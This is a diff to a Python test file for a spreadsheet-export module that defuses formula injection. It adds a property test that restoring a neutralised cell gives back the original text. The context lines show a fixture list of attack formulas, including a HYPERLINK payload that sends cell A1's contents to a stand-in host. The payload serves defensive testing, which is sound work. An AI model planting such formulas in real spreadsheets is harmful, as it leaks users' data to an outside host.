@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from maillage.lib.spreadsheet import FORMULA_STARTS, csv_text, neutralise, write_cell
+from maillage.lib.spreadsheet import FORMULA_STARTS, csv_text, neutralise, restore, write_cell
 
 ATTACKS = [
     '=HYPERLINK("http://x?d="&A1,"Cliquez ici")',
@@ -86,3 +86,10 @@ def test_xlsx_numbers_and_dates_stay_numbers_and_dates() -> None:
     assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
     assert cells[3].value == dt.datetime(2025, 3, 1, 10, 0)
     assert cells[3].is_date
+
+
+@given(st.text(max_size=30).filter(lambda text: not text.startswith("'")))
+def test_restore_gives_back_the_text_neutralise_quoted(text: str) -> None:
+    cell = neutralise(text)
+    assert isinstance(cell, str)
+    assert restore(cell) == text
